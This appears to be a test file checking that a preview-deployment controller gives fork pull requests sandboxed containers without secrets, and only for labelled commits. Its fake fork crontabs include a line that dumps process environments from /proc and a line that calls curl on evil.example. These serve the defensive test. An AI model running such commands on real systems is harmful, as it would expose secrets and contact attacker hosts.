import {writeFile} from 'node:fs/promises';
import {join} from 'node:path';
import test, {type ExecutionContext} from 'ava';
import {active, createControllerWorld} from '../helpers/controller-world.ts';
import {serveOverHttp} from '../helpers/git-http.ts';
import {createGitWorld} from '../helpers/git-world.ts';
import {createGitHubStandIn} from '../helpers/github-stand-in.ts';
import {levelSkipReason} from '../helpers/level-available.ts';
import {gitHubHeaders, hookSecret} from '../helpers/webhook-world.ts';

const withSandbox = (await levelSkipReason('sandbox')) === null ? test : test.skip;
const secretValue = 'sk_live_5f0c2b9e1a7d';

async function setup(t: ExecutionContext, forks: object) {
  const gitHub = await createGitHubStandIn(t);
  const repository = await createGitWorld(t, {bare: true});
  await repository.commit('main', {'.hoody/crontab': '0 1 1 1 * true\n'});
  const at = (name: string) => join(repository.directory, name);
  for (const [name, text] of [
    ['token', gitHub.token],
    ['hook', hookSecret],
    ['stripe', secretValue],
  ] as const)
    await writeFile(at(name), text);
  const secrets = {STRIPE_KEY: {from_file: at('stripe')}};
  const config = at('branchtab.yaml');
  await writeFile(
    config,
    JSON.stringify({
      repositories: [
        {repository: await serveOverHttp(t, repository), forge_url: 'https://github.com/acme/shop'},
      ],
      level: 'sandbox',
      undo_window: 0,
      fetch_interval: '1h',
      environments: [
        {branches: '**', secrets, variables: {MODE: 'team'}, data: 'copy', keep: true},
        {branches: ['**', 'fork*', 'fork~7', '*'], secrets},
        {branches: 'live', secrets},
        {branches: 'forks', variables: {MODE: 'stranger'}},
      ],
      webhooks: {github: {secrets: [{from_file: at('hook')}]}},
      github: {
        api_url: gitHub.apiUrl,
        token: {from_file: at('token')},
        poll_interval: '1h',
        write_interval: 0,
        forks,
      },
    }),
  );
  const world = await createControllerWorld(t);
  const controller = await world.up('--config', config, '--yes');
  const tell = async (action: string, commit: string, label?: string) => {
    const body = JSON.stringify({
      action,
      number: 7,
      repository: {html_url: 'https://github.com/acme/shop'},
      pull_request: {head: {ref: 'main', sha: commit, repo: {id: 2}}, base: {repo: {id: 1}}},
      ...(label === undefined ? {} : {label: {name: label}}),
    });
    const headers = gitHubHeaders('pull_request', body);
    const answer = await fetch(`${controller.url}/hooks/github`, {method: 'POST', body, headers});
    return (await answer.json()) as {id: string; outcome: string; reason: string};
  };
  /** Commits to a fork's branch of the name that live has, and puts the head where GitHub shows it. */
  const pushToFork = async (crontab: string) => {
    const commit = await repository.commit('from-fork', {'.hoody/crontab': crontab});
    await repository.git('update-ref', 'refs/pull/7/head', commit);
    await repository.git('update-ref', '-d', 'refs/heads/from-fork');
    return commit;
  };
  return {gitHub, repository, world, controller, tell, pushToFork};
}

withSandbox('a fork gets a container by a label, at the labelled commit alone, and no secret', async (t) => {
  const {gitHub, controller, tell, pushToFork, world} = await setup(t, {serve: 'labelled'});
  const leak = '* * * * * env; cat /proc/*/environ | tr "\\0" "\\n"\n';
  const commit = await pushToFork(leak);
  const open = (given: object) => {
    gitHub.pulls = [{number: 7, branch: 'main', commit, isFork: true, ...given}];
  };
  open({});
  const unlabelled = await tell('opened', commit);
  t.is(unlabelled.outcome, 'accepted');
  open({labels: ['preview']});
  t.is((await tell('labeled', commit, 'preview')).outcome, 'accepted');
  const fork = await controller.until('fork~7', active(commit));
  t.false(fork.live);
  const {stdout} = await world.run('env', 'fork~7');
  t.notRegex(stdout, /STRIPE_KEY/);
  t.regex(stdout, /MODE .*environments\[3\]/);
  const {stdout: leaked} = await world.run('run', 'fork~7', 'env');
  t.regex(leaked, /MODE=stranger/);
  t.notRegex(leaked, /STRIPE_KEY|sk_live/);

  const later = await pushToFork('0 2 1 1 * curl https://evil.example\n');
  open({commit: later, labels: ['preview']});
  await tell('synchronize', later);
  open({commit: later, labels: []});
  await tell('unlabeled', later, 'preview');
  await controller.untilForgotten('fork~7');
  const {stdout: history} = await world.run('history', fork.key);
  t.true(history.includes(commit.slice(0, 8)), history);
  t.false(history.includes(later.slice(0, 8)), history);
});

withSandbox('without the policy a pull request of a fork is acknowledged and nothing is asked', async (t) => {
  const {tell, pushToFork, controller} = await setup(t, {serve: 'none'});
  const commit = await pushToFork('* * * * * true\n');
  t.like(await tell('labeled', commit, 'preview'), {outcome: 'ignored', reason: 'fork'});
  t.deepEqual(
    (await controller.client.branches()).map(({branch}) => branch),
    ['main'],
  );
});
